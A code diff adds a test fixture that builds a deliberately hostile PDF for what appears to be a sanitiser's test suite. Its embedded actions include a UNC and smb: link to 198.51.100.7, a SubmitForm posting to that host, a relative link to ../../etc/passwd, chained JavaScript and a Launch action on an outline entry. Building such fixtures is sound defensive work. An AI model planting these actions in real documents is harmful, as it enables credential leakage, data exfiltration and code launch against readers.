@@ -101,3 +101,47 @@ def negative_count_pdf() -> bytes:
                     b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                     _stream(_TEXT)])
+
+
+def external_links_pdf(path: Path, marker: Path) -> Path:
+    """``hostile_pdf`` plus every other way out: GoToR to a UNC path and to a local file,
+    GoToE, SubmitForm, ImportData, a URI to smb:, a relative URI, a JavaScript chained
+    after a page link (/Next), an outline entry that launches, a rich-media annotation.
+    The actions are indirect objects, so that an update merely unlinking them would
+    still leave them in the file's bytes."""
+    hostile_pdf(path, marker)
+    doc = pymupdf.open(path)
+    actions = [
+        "<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>",
+        f"<< /S /GoToR /F ({marker}.pdf) /D [0 /Fit] /NewWindow true >>",
+        "<< /S /GoToE /T << /R /C /N (payload.txt) >> >>",
+        "<< /S /SubmitForm /F << /FS /URL /F (https://198.51.100.7/thu) >> >>",
+        f"<< /S /ImportData /F ({marker}.fdf) >>",
+        "<< /S /URI /URI (smb://198.51.100.7/share/x.pdf) >>",
+        "<< /S /URI /URI (../../etc/passwd) >>",
+        "<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert(1)) >> >>",
+    ]
+    page = doc[0]
+    annots = []
+    for n, action in enumerate(actions):
+        act = doc.get_new_xref()
+        doc.update_object(act, action.replace("3 0 R", f"{page.xref} 0 R"))
+        link = doc.get_new_xref()
+        y = 150 + 30 * n
+        doc.update_object(link, f"<< /Type /Annot /Subtype /Link /Rect [72 {y} 300 {y + 20}]"
+                                f" /A {act} 0 R /Border [0 0 0] >>")
+        annots.append(f"{link} 0 R")
+    media = doc.get_new_xref()
+    doc.update_object(media, "<< /Type /Annot /Subtype /RichMedia /Rect [300 600 400 700]"
+                             " /RichMediaContent << >> >>")
+    annots.append(f"{media} 0 R")
+    doc.xref_set_key(page.xref, "Annots", "[" + " ".join(annots) + "]")
+    launch = doc.get_new_xref()
+    doc.update_object(launch, f"<< /S /Launch /F ({marker}) >>")
+    doc.set_toc([[1, "Phụ lục", 1]])
+    outline_item = doc.xref_get_key(doc.pdf_catalog(), "Outlines/First")[1].split()[0]
+    doc.xref_set_key(int(outline_item), "A", f"{launch} 0 R")
+    doc.save(path.with_suffix(".tmp"))
+    doc.close()
+    path.with_suffix(".tmp").replace(path)
+    return path
